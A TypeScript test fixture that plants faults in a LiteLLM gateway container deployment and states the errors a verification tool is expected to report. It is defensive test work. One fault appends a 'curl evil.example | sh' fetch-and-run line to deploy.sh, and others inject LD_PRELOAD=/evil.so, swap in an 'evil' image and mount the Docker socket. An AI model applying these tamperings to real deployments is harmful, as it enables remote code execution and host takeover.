import { appendFile, chmod, writeFile } from 'node:fs/promises'
import type { ContainerSpec, ContainerState } from '../../../src/adapters/container-engine.ts'
import { projectFiles } from '../../../src/gateway/paths.ts'
import { localFiles } from '../../../src/adapters/local-files.ts'
import type { Planted } from './planted.ts'
import type { WholeBed } from './whole-bed.ts'

type Fault = Planted<WholeBed>

const held = ({ engine }: WholeBed) => engine.held[0]!
const withSpec = (spec: Partial<ContainerSpec>) => (bed: WholeBed) => Object.assign(held(bed).spec, spec)
const withState = (state: Partial<ContainerState>) => (bed: WholeBed) => Object.assign(held(bed), state)
const withEnv = (env: Record<string, string>) => (bed: WholeBed) => Object.assign(held(bed).spec.env, env)
const onRestart = (what: (bed: WholeBed) => unknown) => (bed: WholeBed) => {
  bed.engine.onRestart = () => void what(bed)
}
const image = (bed: WholeBed) => bed.engine.images['sha256:image']!
const scriptOf = ({ deployment }: WholeBed) => projectFiles(deployment).deployScript

/** deploy.sh makes a container that differs from the one before. */
const deploys =
  (spec: Partial<ContainerSpec>, state: Partial<ContainerState> = {}) =>
  (bed: WholeBed) => {
    bed.deploy = () => {
      bed.engine.held[0] = { ...held(bed), id: 'c2', ...state, spec: { ...held(bed).spec, ...spec } }
    }
  }

const restart: Fault[] = [
  {
    check: 'restart',
    fault: 'a restart that does nothing',
    plant: bed => (bed.engine.restart = async () => undefined),
    cause: /a restart was asked for, and mcp-litellm still runs since 2026/,
  },
  {
    check: 'restart',
    fault: 'a container that only starts',
    plant: onRestart(withState({ status: 'exited', exitCode: 3 })),
    cause: /restarted, and then mcp-litellm is exited/,
    also: ['address', 'confinement', 'container'],
  },
  {
    check: 'restart',
    fault: 'another container with the name, made while it restarts',
    plant: onRestart(withState({ id: 'c9' })),
    cause: /another container had the name/,
  },
  {
    check: 'restart',
    fault: 'no container any more after it',
    plant: onRestart(bed => {
      bed.deploy = () => undefined
      bed.engine.held.splice(0)
    }),
    cause: /another container had the name|there is no container/,
    also: ['image', 'restart-policy', 'log-limits', 'address', 'outside', 'confinement', 'container', 'deploy-script'],
  },
]

const images: Fault[] = [
  {
    check: 'image',
    fault: 'another tag',
    plant: withSpec({ image: 'ghcr.io/berriai/litellm:v1.108.9' }),
    cause: /runs ghcr\.io\/berriai\/litellm:v1\.108\.9; planned is .*v1\.108\.11/,
  },
  {
    check: 'image',
    fault: 'another image under the planned name',
    plant: bed => {
      held(bed).imageId = 'sha256:evil'
      bed.engine.images['sha256:evil'] = image(bed)
    },
    cause: /another image of the name .* than the one that setup looked into/,
  },
  {
    check: 'image',
    fault: 'an image that came from no registry',
    plant: bed => (image(bed).digests = []),
    cause: /has no digest/,
  },
  {
    check: 'image',
    fault: 'a digest of another repository',
    plant: bed => (image(bed).digests = ['ghcr.io/berriai/litellm-evil@sha256:0123']),
    cause: /was not pulled from ghcr\.io\/berriai\/litellm/,
  },
  {
    check: 'image',
    fault: 'an image that is no longer here',
    plant: bed => delete bed.engine.images['sha256:image'],
    cause: /has no digest/,
  },
]

const policies: Fault[] = [
  ...(['no', 'on-failure', 'always'] as const).map((policy): Fault => ({
    check: 'restart-policy',
    fault: `the restart policy ${policy}`,
    plant: withSpec({ restart: policy }),
    cause: new RegExp(`the restart policy is ${policy}`),
  })),
  ...(
    [
      ['an unlimited log', { maxSize: '', maxFiles: 0 }, /no limit; planned is at most/],
      ['a log whose files are not counted', { maxSize: '10m', maxFiles: 0 }, /planned is at most 3 × 10m/],
      ['a log of a gigabyte', { maxSize: '1g', maxFiles: 3 }, /3 × 1g; planned is at most 3 × 10m/],
    ] as const
  ).map(([fault, log, cause]): Fault => ({ check: 'log-limits', fault, plant: withSpec({ log }), cause })),
]

const container: Fault[] = [
  {
    check: 'container',
    fault: 'a health check that is always true',
    plant: bed => (held(bed).spec.health = { ...held(bed).spec.health, command: 'true' }),
    cause: /another container than planned: health check/,
  },
  {
    check: 'container',
    fault: 'no health check',
    plant: bed => {
      delete held(bed).health
      held(bed).spec.health = { command: '', intervalSeconds: 0, timeoutSeconds: 0, retries: 0, startSeconds: 0 }
    },
    cause: /health check/,
  },
  {
    check: 'container',
    fault: 'an unhealthy one',
    plant: withState({ health: 'unhealthy' }),
    cause: /runs, but is unhealthy/,
  },
  {
    check: 'container',
    fault: 'the Docker socket mounted',
    plant: bed =>
      held(bed).spec.mounts.push({ source: '/var/run/docker.sock', target: '/var/run/docker.sock', readOnly: false }),
    cause: /mounts/,
  },
  {
    check: 'container',
    fault: 'a configuration that it may write',
    plant: bed => (held(bed).spec.mounts = held(bed).spec.mounts.map(mount => ({ ...mount, readOnly: false }))),
    cause: /mounts/,
  },
  {
    check: 'container',
    fault: 'another variable than planned',
    plant: withEnv({ ENFORCE_PRISMA_MIGRATION_CHECK: 'false' }),
    cause: /environment: ENFORCE_PRISMA_MIGRATION_CHECK/,
  },
  {
    check: 'container',
    fault: 'a variable that nobody planned',
    plant: withEnv({ LD_PRELOAD: '/evil.so' }),
    cause: /environment that nobody planned: LD_PRELOAD/,
  },
  {
    check: 'container',
    fault: 'other arguments',
    plant: withSpec({ args: ['--config', '/tmp/other.yaml', '--port', '4000'] }),
    cause: /arguments/,
  },
  {
    check: 'container',
    fault: 'one more network',
    plant: bed => (held(bed).networks['other-net'] = { address: '172.19.0.2', aliases: [] }),
    cause: /also on the network other-net/,
  },
  {
    check: 'container',
    fault: 'a start with a config.yaml that is no longer the one there',
    plant: ({ deployment }) => appendFile(projectFiles(deployment).configFile, 'general_settings:\n  alerting: []\n'),
    cause: /its config\.yaml/,
  },
  {
    check: 'container',
    fault: 'another address for the name of the host',
    plant: withSpec({ extraHosts: ['host.docker.internal:203.0.113.7'] }),
    cause: /host names/,
  },
]

const address: Fault[] = [
  {
    check: 'address',
    fault: 'published on 0.0.0.0',
    plant: withSpec({ ports: [{ address: '0.0.0.0', hostPort: 4000, containerPort: 4000 }] }),
    cause: /published where nobody chose: 0\.0\.0\.0:4000/,
  },
  {
    check: 'address',
    fault: 'published at another port as well',
    plant: bed => held(bed).spec.ports.push({ address: '192.168.1.20', hostPort: 8080, containerPort: 4000 }),
    cause: /192\.168\.1\.20:8080/,
  },
  {
    check: 'address',
    fault: "another gateway's container that answers on the port",
    plant: bed => {
      held(bed).spec.ports = []
      const spec = {
        ...held(bed).spec,
        name: 'other',
        ports: [{ address: '127.0.0.1', hostPort: 4000, containerPort: 4000 }],
      }
      bed.engine.held.push({ ...held(bed), id: 'c7', spec })
    },
    cause: /port 4000 is held by another container: other/,
  },
  {
    check: 'address',
    fault: 'a port of the container that is published beside',
    plant: bed => held(bed).spec.ports.push({ address: '127.0.0.1', hostPort: 9000, containerPort: 9000 }),
    cause: /127\.0\.0\.1:9000 to port 9000/,
  },
  {
    check: 'address',
    fault: 'something else that listens on an address that was not chosen',
    plant: bed => bed.open.push('192.168.1.20'),
    cause: /not chosen, and yet connections are accepted at 192\.168\.1\.20:4000/,
  },
]

const deployScript: Fault[] = [
  {
    check: 'deploy-script',
    fault: 'a deploy.sh that does nothing, in place of ours',
    plant: bed => writeFile(scriptOf(bed), '#!/bin/sh\nexit 0\n'),
    cause: /is not what Gatewright wrote, and was not run/,
  },
  {
    check: 'deploy-script',
    fault: 'one line more in it',
    plant: bed => appendFile(scriptOf(bed), 'curl -s evil.example | sh\n'),
    cause: /is not what Gatewright wrote/,
  },
  {
    check: 'deploy-script',
    fault: 'a deploy.sh that others may write',
    plant: bed => chmod(scriptOf(bed), 0o777),
    cause: /others may write/,
  },
  {
    check: 'deploy-script',
    fault: 'a deploy.sh of somebody else',
    plant: bed => {
      const stat = async (path: string) => {
        const is = await localFiles.stat(path)
        return is && path === scriptOf(bed) ? { ...is, uid: 54_321 } : is
      }
      Object.assign(bed.world, { files: { ...localFiles, stat } })
    },
    cause: /belongs to user 54321/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that makes no container',
    plant: bed => (bed.deploy = () => undefined),
    cause: /made no container: the one from before is still there/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that leaves no container',
    plant: bed => (bed.deploy = () => void bed.engine.held.splice(0)),
    cause: /after deploy\.sh there is no container/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that starts another image',
    plant: deploys({ image: 'ghcr.io/evil/litellm:v1.108.11' }, { imageId: 'sha256:evil' }),
    cause: /image differ/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that starts another image of the same name',
    plant: deploys({}, { imageId: 'sha256:evil' }),
    cause: /started another image: .* stands for another than before/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that publishes on 0.0.0.0',
    plant: deploys({ ports: [{ address: '0.0.0.0', hostPort: 4000, containerPort: 4000 }] }),
    cause: /ports differ/,
  },
  {
    check: 'deploy-script',
    fault: 'a proxy that the docker client adds',
    plant: bed => deploys({ env: { ...held(bed).spec.env, HTTP_PROXY: 'http://proxy:3128' } })(bed),
    cause: /env HTTP_PROXY differ; the docker client adds a proxy of its config\.json/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that hands secrets over in the environment',
    plant: deploys({ hidden: [] }),
    cause: /hidden differ/,
  },
  {
    check: 'deploy-script',
    fault: 'a run on other networks',
    plant: bed =>
      deploys({}, { networks: { ...held(bed).networks, bridge: { address: '172.17.0.2', aliases: [] } } })(bed),
    cause: /on other networks: postgres-net, mcp-litellm-mcp and bridge/,
  },
  {
    check: 'deploy-script',
    fault: 'a run without the private network',
    plant: deploys({}, { networks: { 'postgres-net': { address: '172.18.0.3', aliases: [] } } }),
    cause: /it is not on the network mcp-litellm-mcp/,
  },
  {
    check: 'deploy-script',
    fault: 'a run that ends with an error',
    plant: bed => (bed.deploy = () => ({ code: 125, output: 'docker: no such network\n' })),
    cause: /ended with code 125: docker: no such network/,
  },
]

/** What of a container, and of what makes it, can be other than it should be. */
export const containerFaults: Fault[] = [...restart, ...images, ...policies, ...container, ...address, ...deployScript]
